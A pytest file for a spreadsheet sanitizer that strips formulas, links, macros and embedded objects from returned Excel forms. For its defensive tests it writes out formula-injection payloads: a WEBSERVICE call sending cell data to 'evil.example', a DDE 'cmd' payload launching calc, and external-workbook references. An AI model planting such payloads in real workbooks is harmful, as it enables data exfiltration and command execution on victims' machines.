"""Nothing of a returned workbook gets into its copy but what is meant to."""

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.hyperlink import Hyperlink

from greenxl.campaign.model import Campaign
from greenxl.form.blank import blank
from greenxl.sendback.clean_copy import INFLATED, CleanCopy, clean_copy, shape, shapes_of

TOWN = "果里镇"
COMMUNITY = "鸿嘉社区"
MEMBERS = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core)\.xml"
    r"|xl/(workbook|styles|sharedStrings)\.xml|xl/_rels/workbook\.xml\.rels|xl/theme/theme1\.xml"
    r"|xl/worksheets/sheet[0-9]+\.xml|xl/worksheets/_rels/sheet[0-9]+\.xml\.rels"
    r"|xl/comments/comment[0-9]+\.xml|xl/drawings/commentsDrawing[0-9]+\.vml"
)

Book = openpyxl.Workbook
Change = Callable[[Book], None]


def form(campaign: Campaign) -> bytes:
    communities = campaign.communities_of(TOWN)
    given = {c: [Decimal(4)] * len(campaign.criteria) for c in communities}
    return blank(campaign, TOWN, communities, scores=given)


def changed(campaign: Campaign, change: Change) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(form(campaign)))
    change(book)
    return saved(book)


def saved(book: Book) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_members(data: bytes, members: Mapping[str, bytes]) -> bytes:
    """Return the container with these members added or put in the place of others."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in members:
                new.writestr(name, old.read(name))
        for name, content in members.items():
            new.writestr(name, content)
    return buffer.getvalue()


def copied(campaign: Campaign, data: bytes) -> CleanCopy:
    clean = clean_copy(data, shapes_of(form(campaign)))
    assert clean
    return clean


def text_of(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist())


def put_formula(book: Book) -> None:
    book[COMMUNITY]["G1"] = '=WEBSERVICE("http://evil.example/"&E4)'


def put_dde(book: Book) -> None:
    book[COMMUNITY]["G1"] = "=cmd|'/C calc'!A0"


def put_array(book: Book) -> None:
    book[COMMUNITY]["G1"] = ArrayFormula("G1:G2", "=SUM('[evil.xlsx]a'!A1:A2)")


def put_reference(book: Book) -> None:
    book[COMMUNITY]["G1"] = "='[evil.xlsx]甲'!A1"


def put_score_formula(book: Book) -> None:
    book[COMMUNITY]["E4"] = "=1+3"


def put_link(book: Book) -> None:
    book[COMMUNITY]["G1"] = "点我"
    book[COMMUNITY]["G1"].hyperlink = "http://evil.example/"


def put_link_formula(book: Book) -> None:
    book[COMMUNITY]["G1"] = '=HYPERLINK("http://evil.example/","点我")'


def put_name(book: Book) -> None:
    book.defined_names["evil"] = DefinedName("evil", attr_text="'[evil.xlsx]甲'!$A$1")


def put_validation(book: Book) -> None:
    validation = DataValidation("list", formula1="'[evil.xlsx]甲'!$A$1:$A$9", sqref="G1")
    book[COMMUNITY].add_data_validation(validation)


def put_bound(book: Book) -> None:
    validation = DataValidation("decimal", formula1="0", formula2="'[evil.xlsx]甲'!$A$1", sqref="G1")
    book[COMMUNITY].add_data_validation(validation)


def put_link_with_place(book: Book) -> None:
    link = Hyperlink(ref="G1", target="http://evil.example/", location=f"'{COMMUNITY}'!E4")
    book[COMMUNITY]["G1"] = "点我"
    book[COMMUNITY]["G1"].hyperlink = link


def put_condition(book: Book) -> None:
    rule = FormulaRule(['WEBSERVICE("http://evil.example/")=""'])  # type: ignore[no-untyped-call]
    book[COMMUNITY].conditional_formatting.add("G1", rule)


@pytest.mark.parametrize(
    "change",
    [
        put_formula,
        put_dde,
        put_array,
        put_reference,
        put_score_formula,
        put_link,
        put_link_with_place,
        put_link_formula,
        put_name,
        put_validation,
        put_bound,
        put_condition,
    ],
    ids=lambda change: change.__name__.removeprefix("put_"),
)
def test_nothing_that_acts_survives(huantai: Campaign, change: Change) -> None:
    """No formula but the form's, no link or name or guard that leads outside."""
    clean = copied(huantai, changed(huantai, change))
    data = saved(clean.book)
    assert clean.lost or change is put_name
    assert not re.search(r"evil|WEBSERVICE|HYPERLINK\(|cmd\||External|=?1\+3", text_of(data))
    assert shapes_of(data) <= shapes_of(form(huantai))


@pytest.mark.parametrize(
    "text",
    ["=cmd|'/C calc'!A0", "=1+1", "{=1}", "+1", "-1", "@SUM(A1)", "#REF!", "http://evil.example/", "=\x07"],
)
def test_a_text_stays_a_text(huantai: Campaign, text: str) -> None:
    """A text that looks like a formula, an error or a link is a text in the copy too."""

    def write(book: Book) -> None:
        cell = book[COMMUNITY]["G1"]
        cell.value = text.replace("\x07", "_x0007_")
        cell.data_type = "s"

    clean = copied(huantai, changed(huantai, write))
    cell = openpyxl.load_workbook(io.BytesIO(saved(clean.book)))[COMMUNITY]["G1"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\x07", "_x0007_")
    assert cell.hyperlink is None


def test_only_known_members_are_written(huantai: Campaign) -> None:
    """Macros, embedded objects, connections and pictures are not in the copy, and each kind is counted."""
    data = with_members(
        form(huantai),
        {
            "xl/vbaProject.bin": b"macro",
            "xl/macrosheets/sheet1.xml": b"<macro/>",
            "xl/externalLinks/externalLink1.xml": b"<link/>",
            "xl/embeddings/oleObject1.bin": b"object",
            "xl/connections.xml": b"<connections/>",
            "xl/media/image1.png": b"picture",
            "xl/media/image2.png": b"picture",
            "xl/cellimages.xml": b"<wps/>",
            "xl/charts/chart1.xml": b"<chart/>",
            "xl/pivotTables/pivotTable1.xml": b"<pivot/>",
            "xl/tables/table1.xml": b"<table/>",
            "xl/drawings/drawing1.xml": b'<x:d xmlns:x="x"><x:sp macro="m"></x:sp></x:d>',
            "xl/printerSettings/printerSettings1.bin": b"printer",
        },
    )
    clean = copied(huantai, data)
    assert dict(clean.lost) == {
        "宏": 2,
        "对其他文件的引用": 1,
        "嵌入对象或控件": 1,
        "数据连接": 1,
        "图片": 3,
        "图表": 1,
        "数据透视表": 1,
        "智能表格": 1,
        "图形或文本框": 1,
    }
    with zipfile.ZipFile(io.BytesIO(saved(clean.book))) as archive:
        assert [name for name in archive.namelist() if not MEMBERS.fullmatch(name)] == []


def test_a_workbook_with_macros_becomes_one_without(huantai: Campaign) -> None:
    """The content type is that of an .xlsx, whatever the original's was."""
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    macros = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    with zipfile.ZipFile(io.BytesIO(form(huantai))) as archive:
        types = archive.read("[Content_Types].xml").decode()
    changes = {
        "[Content_Types].xml": types.replace(plain, macros).encode(),
        "xl/vbaProject.bin": b"macro",
    }
    clean = copied(huantai, with_members(form(huantai), changes))
    with zipfile.ZipFile(io.BytesIO(saved(clean.book))) as archive:
        written = archive.read("[Content_Types].xml").decode()
    assert plain in written
    assert macros not in written


def test_what_was_lost_is_counted(huantai: Campaign) -> None:
    """Formulas that became values, links to outside and foreign guards are told with their number."""

    def change(book: Book) -> None:
        for put in (put_link, put_formula, put_validation, put_condition):
            put(book)
        book[COMMUNITY]["H1"] = "=1+1"

    clean = copied(huantai, changed(huantai, change))
    assert clean.replaced == {(COMMUNITY, "G1"), (COMMUNITY, "H1")}
    assert dict(clean.lost) == {
        "其他公式（已换成数值）": 2,
        "对外或失效的链接": 1,
        "其他数据有效性": 1,
        "其他条件格式": 1,
    }


def test_a_formula_becomes_the_value_it_was_saved_with(huantai: Campaign) -> None:
    """A foreign formula leaves its stored value behind, a form's own formula stays live."""
    data = changed(huantai, put_score_formula)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        name = next(n for n in archive.namelist() if b"<f>1+3</f>" in archive.read(n))
        calculated, found = re.subn(rb"(<f>1\+3</f>)<v(?: ?/>|></v>)", rb"\1<v>4</v>", archive.read(name))
    assert found == 1
    sheet = copied(huantai, with_members(data, {name: calculated})).book[COMMUNITY]
    assert sheet["E4"].value == 4
    assert sheet["E24"].value == '=IF(COUNT(E4:E23)=0,"",ROUND(SUM(E4:E23),2))'


def test_links_inside_the_workbook_stay(huantai: Campaign) -> None:
    """The cover's links to the sheets lead where they led."""
    cover = copied(huantai, form(huantai)).book["填报说明"]
    assert [c.hyperlink.location for row in cover.iter_rows() for c in row if c.hyperlink] == [
        f"'{COMMUNITY}'!E4"
    ]


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), id="xls"),
        pytest.param(with_members(saved(Book()), {"xl/workbook.xml": b"<"}), id="broken"),
        pytest.param(with_members(saved(Book()), {"xl/x.xml": b" " * (INFLATED + 1)}), id="too big"),
    ],
)
def test_what_cannot_be_copied(data: bytes) -> None:
    """No copy is better than an exception or a long wait: the town gets a new blank."""
    assert clean_copy(data, frozenset()) is None


@pytest.mark.parametrize(
    "part",
    [
        pytest.param('<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>', id="merged box"),
        pytest.param('<mergeCells count="1"><mergeCell ref="A:XFD"/></mergeCells>', id="whole columns"),
        pytest.param(
            '<hyperlinks><hyperlink ref="A1:XFD1048576" location="a"/></hyperlinks>', id="linked box"
        ),
    ],
)
def test_a_box_without_end_is_not_walked_through(part: str) -> None:
    """openpyxl would make an object for each of 17,179,869,184 cells."""
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>{part}</worksheet>'
    )
    data = with_members(saved(Book()), {"xl/worksheets/sheet1.xml": sheet.encode()})
    assert clean_copy(data, frozenset()) is None


@pytest.mark.parametrize(
    ("formula", "same"),
    [
        pytest.param("=SUM(E4:E23)", "=SUM($G$14:$G$33)", id="moved"),
        pytest.param("='甲'!E24", "=甲!G30", id="quoted"),
    ],
)
def test_shape(formula: str, same: str) -> None:
    """Where a formula stands does not matter."""
    assert shape(formula) == shape(same)


@pytest.mark.parametrize(
    "formula", ["='[evil.xlsx]甲'!E24", "=[1]甲!E24", "=SUM(E4:E23)+1", "=cmd|'/C calc'!A0", "=A1()"]
)
def test_another_shape(formula: str) -> None:
    """What a formula does and what it reaches does matter."""
    assert shape(formula) not in {shape("=SUM(E4:E23)"), shape("='甲'!E24"), shape("=E4")}
